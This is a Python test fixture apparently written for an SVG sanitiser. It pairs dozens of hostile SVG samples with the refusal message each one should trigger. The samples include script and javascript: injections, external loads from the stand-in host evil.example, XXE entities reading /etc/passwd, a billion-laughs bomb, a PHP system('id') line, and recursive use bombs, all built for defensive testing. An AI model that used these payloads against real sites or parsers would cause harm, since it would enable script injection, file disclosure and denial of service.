"""SVG files that try to run, load or blow up something; each with what the refusal names.

Gathered from what sanitisers have been led astray by: scripts in every spelling, animated links, documents within the
picture, requests from styles, references that leave the file, entities, encodings and nesting.
"""

from __future__ import annotations

import gzip

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
SHAPE = '<path d="M0 0h9v9z"/>'
XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"'
EVIL = "http://evil.example/x"


def svg(inside: str, more: str = "") -> bytes:
    return f"{HEAD}{more}>{inside}{SHAPE}</svg>".encode()


REFUSED: dict[str, tuple[bytes, str]] = {
    "script": (svg("<script>alert(1)</script>"), "<script>"),
    "script by address": (svg(f'<script href="{EVIL}"/>'), "<script>"),
    "script in CDATA": (svg("<script><![CDATA[alert(1)]]></script>"), "<script>"),
    "script of another prefix": (svg('<s:script xmlns:s="http://www.w3.org/2000/svg">x()</s:script>'), "<script>"),
    "script of XHTML": (svg(f"<h:script {XHTML}>alert(1)</h:script>"), "<script>"),
    "script deep in metadata of a group": (svg("<g><g><script/></g></g>"), "<script>"),
    "onload": (svg("", ' onload="alert(1)"'), "onload of <svg>"),
    "onload in capitals": (svg("", ' ONLOAD="alert(1)"'), "ONLOAD of <svg>"),
    "onbegin of an animation": (svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'), "<animate>"),
    "onclick of a shape": (svg('<rect width="3" height="3" onclick="alert(1)"/>'), "onclick of <rect>"),
    "animated link": (svg('<a><animate attributeName="href" values="javascript:alert(1)"/></a>'), "<a>"),
    "set": (svg('<set attributeName="href" to="javascript:alert(1)"/>'), "<set>"),
    "animateTransform": (svg('<g><animateTransform attributeName="transform"/></g>'), "<animateTransform>"),
    "discard": (svg("<discard/>"), "<discard>"),
    "link to a script": (svg('<a xlink:href="javascript:alert(1)"><circle r="1"/></a>'), "<a>"),
    "link with a tab in it": (svg('<use href="java&#9;script:alert(1)"/>'), 'href="'),
    "use of another file": (svg(f'<use href="{EVIL}.svg#a"/>'), 'href="http'),
    "use of another file, xlink": (svg(f'<use xlink:href="{EVIL}.svg#a"/>'), 'href="http'),
    "use of a file beside it": (svg('<use href="other.svg#a"/>'), 'href="other'),
    "use of a data document": (svg('<use href="data:image/svg+xml;base64,PHN2Zz4=#x"/>'), 'href="data:'),
    "use of nothing": (svg('<use href="#nothing"/>'), "#nothing"),
    "gradient of another file": (svg(f'<linearGradient id="g" href="{EVIL}#g"/>'), "href="),
    "image from the web": (svg(f'<image href="{EVIL}.png"/>'), "<image>"),
    "image from the disk": (svg('<image xlink:href="file:///etc/passwd"/>'), "<image>"),
    "image of data": (svg('<image href="data:text/html,%3Cscript%3E"/>'), "<image>"),
    "feImage": (svg(f'<filter id="f"><feImage href="{EVIL}"/></filter>'), "<filter>"),
    "foreignObject": (svg(f'<foreignObject><h:iframe {XHTML} src="{EVIL}"/></foreignObject>'), "<foreignObject>"),
    "iframe of XHTML": (svg(f'<h:iframe {XHTML} src="{EVIL}"/>'), "<iframe>"),
    "handler of SVG Tiny": (svg('<handler type="text/javascript">x()</handler>'), "<handler>"),
    "text": (svg('<text x="1" y="1">Acme</text>'), "<text>"),
    "svg within svg": (svg("<svg><script/></svg>"), "<svg> within <svg>"),
    "switch": (svg("<switch><g/></switch>"), "<switch>"),
    "pattern": (svg('<pattern id="p"/>'), "<pattern>"),
    "import in a style sheet": (svg(f'<style>@import "{EVIL}.css";</style>'), "<style>"),
    "import, escaped": (svg(f"<style>@\\69mport url({EVIL})</style>"), "<style>"),
    "font-face": (svg(f"<style>@font-face{{font-family:x;src:url({EVIL})}}</style>"), "<style>"),
    "url in a style sheet": (svg(f"<style>path{{fill:url({EVIL})}}</style>"), "fill="),
    "url behind a comment": (svg(f"<style>path{{fill:/**/url(/**/{EVIL})}}</style>"), "fill="),
    "url escaped in a style sheet": (svg(f"<style>path{{fill:u\\72l({EVIL})}}</style>"), "fill="),
    "url in a style attribute": (svg(f'<rect style="fill:url({EVIL}#a)" width="1" height="1"/>'), "fill="),
    "url in an attribute": (svg(f'<rect fill="url({EVIL}#a)" width="1" height="1"/>'), "fill="),
    "url as a fallback": (svg(f'<rect fill="url(#a) url({EVIL})" width="1" height="1"/>'), "fill="),
    "background": (svg(f'<g style="background:url({EVIL})"/>'), "background="),
    "cursor from the web, and a filter": (svg(f'<g style="cursor:url({EVIL});filter:url({EVIL})"/>'), "filter="),
    "clip-path from the web": (svg(f'<g clip-path="url({EVIL}#c)"/>'), "clip-path="),
    "binding": (svg(f'<g style="-moz-binding:url({EVIL}#b)"/>'), "-moz-binding"),
    "expression": (svg('<g style="width:expression(alert(1))"/>'), "width="),
    "marker": (svg('<path d="M0 0" marker-end="url(#m)"/>'), "marker-end"),
    "xml-stylesheet": (b'<?xml-stylesheet href="http://evil.example/x.css"?>' + svg(""), "<?xml-stylesheet?>"),
    "xml-stylesheet of XSLT": (b'<?xml-stylesheet type="text/xsl" href="#x"?>' + svg(""), "<?xml-stylesheet?>"),
    "instruction within": (svg("<?php system('id') ?>"), "<?php?>"),
    "billion laughs": (
        b'<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>' + svg("<title>&b;</title>"),
        "<!DOCTYPE>",
    ),
    "entity from the disk": (
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<title>&x;</title>"),
        "<!DOCTYPE>",
    ),
    "entity of parameters": (
        b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>' + svg(""),
        "<!DOCTYPE>",
    ),
    "document type from the web": (b'<!DOCTYPE svg SYSTEM "http://evil.example/svg.dtd">' + svg(""), "<!DOCTYPE>"),
    "entity that nobody declared": (svg("<title>&nbsp;</title>"), "no XML"),
    "packed": (gzip.compress(svg("")), "svgz"),
    "script in UTF-16": (svg("<script/>").decode().encode("utf-16"), "<script>"),
    "script in UTF-16 behind a wrong declaration": (
        ('<?xml version="1.0" encoding="utf-16"?>' + svg("<script/>").decode()).encode("utf-16"),
        "<script>",
    ),
    "script behind a byte order mark": (b"\xef\xbb\xbf" + svg("<script/>"), "<script>"),
    "script in UTF-7": (b'<?xml version="1.0" encoding="utf-7"?>' + svg("+ADw-script+AD4-"), "no XML"),
    "HTML instead": (b"<!doctype html><svg><script>alert(1)</script></svg>", "no XML"),
    "HTML without a document type": (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "<html>, not <svg>"),
    "svg of no namespace": (b'<svg viewBox="0 0 1 1"><script/></svg>', "not <svg> in the namespace"),
    "two roots": (svg("") + svg("<script/>"), "no XML"),
    "cut short": (svg("")[:-9], "no XML"),
    "nothing": (b"", "no XML"),
    "noise": (bytes(range(256)), "no XML"),
    "shapes that use themselves": (svg('<g id="a"><use href="#a"/></g>'), "use themselves"),
    "shapes that use one another": (
        svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
        "use themselves",
    ),
    "a clip of itself": (
        svg('<clipPath id="a"><rect width="1" height="1" clip-path="url(#a)"/></clipPath>'),
        "use the",
    ),
    "a million uses": (
        svg(
            '<path id="a0" d="M0 0"/>'
            + "".join(f'<g id="a{n + 1}">{f"""<use href="#a{n}"/>""" * 10}</g>' for n in range(9))
        ),
        "more than 5,000 shapes",
    ),
    "a chain of uses": (
        svg('<path id="a0" d="M0 0"/>' + "".join(f'<use id="a{n + 1}" href="#a{n}"/>' for n in range(900))),
        "use themselves",
    ),
    "deep nesting": (svg("<g>" * 900 + "</g>" * 900), "within one another"),
    "too large": (svg(f"<desc>{'x' * 600_000}</desc>"), "bytes, more than"),
    "no size": (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "no viewBox"),
    "no height": (b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 0"/>', "no viewBox"),
    "a value that takes long to match": (svg(f'<rect stroke-width="{"1" * 50_000}x"/>'), "stroke-width="),
    "quotes in a value": (svg("<rect fill='red\"><script>'/>".replace("<script>", "&lt;script&gt;")), "fill="),
    "an attribute nobody knows": (svg('<rect width="1" height="1" formaction="javascript:x()"/>'), "formaction"),
}
